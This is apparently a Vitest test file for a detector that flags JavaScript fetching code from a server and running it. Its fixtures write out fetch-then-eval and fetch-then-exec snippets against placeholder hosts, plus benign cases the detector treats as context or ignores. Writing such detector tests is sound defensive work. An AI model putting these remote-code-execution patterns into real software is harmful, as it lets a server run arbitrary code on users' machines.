import { describe, expect, it } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './loader-remote-code.ts'

const seen = async (files: Record<string, string>): Promise<string[]> =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, where }) => `${strength} ${where.file}:${where.line}`,
  )

describe('code from a server', () => {
  it('an answer that is run', async () => {
    expect(
      await seen({
        'app.js':
          "const axios = require('axios')\naxios.get('https://a.invalid').then(({ data }) => {\n  eval(data)\n})",
      }),
    ).toEqual(['decisive app.js:3'])
  })

  it('a command that a server gives', async () => {
    expect(
      await seen({
        'app.js':
          "require('https').get('https://a.invalid', (r) => r.on('data', (d) => require('child_process').exec(d.toString())))",
      }),
    ).toEqual(['decisive app.js:1'])
  })

  it('not a module from the web by its address', async () => {
    expect(await seen({ 'app.js': "import('https://cdn.example/x.js')" })).toEqual(['context app.js:1'])
  })

  it('not what a tool of this machine hands out', async () => {
    const code = "const ws = new WebSocket('ws://localhost:24678')\nws.onmessage = ({ data }) => eval(data)\n"
    expect(await seen({ 'hot.js': code })).toEqual(['context hot.js:2'])
  })

  it('not an answer that is shown', async () => {
    expect(
      await seen({
        'app.js': "fetch('https://a.example').then((r) => r.json()).then((d) => console.log(d))",
      }),
    ).toEqual([])
  })
})
